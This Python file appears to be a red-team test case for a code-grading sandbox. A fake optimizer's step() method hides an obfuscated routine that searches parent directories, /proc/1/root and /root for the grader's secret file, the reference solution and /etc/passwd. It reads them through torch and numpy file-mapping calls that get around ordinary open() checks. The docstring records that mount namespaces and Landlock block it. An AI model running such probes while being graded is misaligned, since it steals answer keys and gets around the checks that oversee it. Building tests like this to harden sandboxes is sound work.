"""Attack: reads files without opening them in Python: `torch.from_file`, `numpy.memmap`, `UntypedStorage.from_file`.

Exercise: optimizer
Earns: 0
Stopped by: mount namespace, Landlock
Levels: full, container
"""

import random

import numpy as np
import torch

os = getattr(random, "_%ss" % "o")


def folders():
    here = os.getcwd()
    for up in range(5):
        yield os.path.join(here, *[".."] * up)
    yield from ("/tmp", "/srv/torchgrade", "/proc/1/root/srv/torchgrade", "/root")


def look():
    for folder in folders():
        for name in ("solutions/.secret", "solutions/optimizer/optimizer.py", "../etc/passwd"):
            path = os.path.join(folder, name)
            for read in (
                lambda: torch.from_file(path, size=20, dtype=torch.uint8).tolist(),
                lambda: list(torch.UntypedStorage.from_file(path, False, 20)),
                lambda: np.memmap(path, np.uint8, "r").tolist()[:20],
                lambda: np.fromfile(path, np.uint8).tolist()[:20],
            ):
                try:
                    print("BREACH", path, bytes(read()))
                except Exception:
                    pass


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        look()

    def zero_grad(self):
        pass
